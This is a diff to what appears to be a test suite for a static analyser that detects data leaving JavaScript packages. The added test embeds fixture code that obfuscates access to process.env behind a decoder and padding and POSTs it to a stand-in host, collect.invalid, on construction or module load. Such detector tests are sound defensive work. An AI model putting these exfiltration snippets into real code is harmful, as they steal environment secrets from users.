@@ -37,6 +37,37 @@ describe('the first look at a function that waits for a call', () => {
     assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
   });
 
+  it('leaves what runs aside in it, an instance that is made or a file that is loaded, the steps of a call', () => {
+    // Each word costs what an obfuscator's decoder costs, and they are many more steps than a first look has.
+    const word = `const word = (codes, key) => {
+      const box = []; let at = 0, text = '';
+      for (let i = 0; i < 256; i++) box[i] = i;
+      for (let i = 0; i < 256; i++) { at = (at + box[i] + key) % 256; const kept = box[i]; box[i] = box[at]; box[at] = kept; }
+      for (const code of codes) text += String.fromCharCode(code);
+      return text;
+    };`;
+    const codes = (text: string): string => JSON.stringify(Array.from(text, (one) => one.charCodeAt(0)));
+    const padding = Array.from({ length: 200 }, (_, index) => `word(${codes(`filler${index}`)}, ${index});`).join(' ');
+    const report = `const report = () => {
+      ${padding}
+      fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process[word(${codes('env')}, 7)]) });
+    };`;
+    assert.deepEqual(
+      flowsOf(`${word} ${report} exports.Api = class { constructor() { report(); } sum(a, b) { return a + b; } };`),
+      ['environment>network@collect.invalid'],
+    );
+    const { flows } = analysePackage(
+      packageOf({
+        'index.js': `exports.sum = (a, b) => require('./report') && a + b;`,
+        'report.js': `${word} ${report} report();`,
+      }),
+    );
+    assert.deepEqual(
+      flows.map(({ source, sink }) => `${source}>${sink}`),
+      ['environment>network'],
+    );
+  });
+
   it('goes on into files that do nothing worth a look by themselves', () => {
     const files = {
       'index.js': `const { key } = require('./key'); exports.check = () => { fetch('https://collect.invalid', { method: 'POST', body: key() }); };`,
